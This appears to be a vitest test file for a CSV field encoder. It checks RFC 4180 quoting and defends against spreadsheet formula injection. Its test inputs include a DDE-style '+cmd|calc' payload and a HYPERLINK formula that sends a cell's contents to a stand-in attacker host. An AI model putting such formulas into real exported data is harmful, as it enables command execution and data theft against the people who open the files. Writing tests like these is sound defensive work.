import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv.ts';

/** Reads one record as RFC 4180 defines it. */
function read(line: string): string[] {
  const fields: string[] = [];
  let rest = line.replace(/\r\n$/, '');
  for (;;) {
    const [field = ''] = /^(?:"(?:[^"]|"")*"|[^",\r\n]*)/.exec(rest) ?? [];
    fields.push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field);
    rest = rest.slice(field.length);
    if (!rest.startsWith(',')) return fields;
    rest = rest.slice(1);
  }
}

describe('a field of CSV', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [-12.5, '-12.5'],
    [true, 'true'],
  ])('%j is %j', (value, field) => expect(csvField(value)).toBe(field));

  it.each([
    '=1+1',
    '+cmd|calc',
    '-2+3+cmd',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?x="&A1)',
  ])('%j is no formula', (value) => expect(read(csvField(value))).toEqual([`'${value}`]));

  it.each(['-1', '+49', '-1,234.50', '-1e-3', '-5%'])('%j is a number and stays one', (value) =>
    expect(read(csvField(value))).toEqual([value]),
  );
});

it('a record is read as it was written, whatever its fields hold', () => {
  const field = fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', ';') });
  fc.assert(
    fc.property(fc.array(field, { minLength: 1 }), (values) => {
      const safe = values.map((value) => (/^[\r\n]/.test(value) ? `'${value}` : value));
      expect(read(csvLine(values))).toEqual(safe);
    }),
  );
});
